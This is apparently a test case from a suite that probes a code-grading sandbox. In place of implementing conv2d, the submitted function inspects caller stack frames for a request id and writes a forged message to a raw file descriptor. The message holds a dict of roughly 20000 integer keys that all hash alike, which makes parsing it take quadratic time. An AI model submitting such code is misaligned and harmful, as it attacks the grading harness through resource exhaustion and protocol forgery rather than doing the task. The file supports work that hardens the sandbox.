# attack: k16_colliding_keys
# class: resource
# exercise: conv2d
# tries: a dict of 20000 integers that all have one hash: reading it costs a time quadratic in their number
# expect: zero
# bounds: 1 MB
import json
import os
import struct
import sys


def own_id():
    """The id of the request that is being answered, from the frames of those who called."""
    caller = sys._getframe()
    while type(caller.f_locals.get("id_")) is not int:
        caller = caller.f_back
    return caller.f_locals["id_"]


def frame(id_, op, tree, body=b""):
    header = json.dumps([id_, op, tree]).encode()
    return struct.pack("<4sIQ", b"DLX1", len(header), len(body)) + header + body


def answer(tree):
    return ["l", [tree, ["l", []], ["s", ""]]]

def conv2d(image, kernel, stride=1, padding=0):
    keys = [["i", str(n * ((1 << 61) - 1))] for n in range(1, 20000)]
    tree = ["d", [[key, ["n"]] for key in keys]]
    os.write(3, frame(own_id(), "value", answer(tree)))
    return None
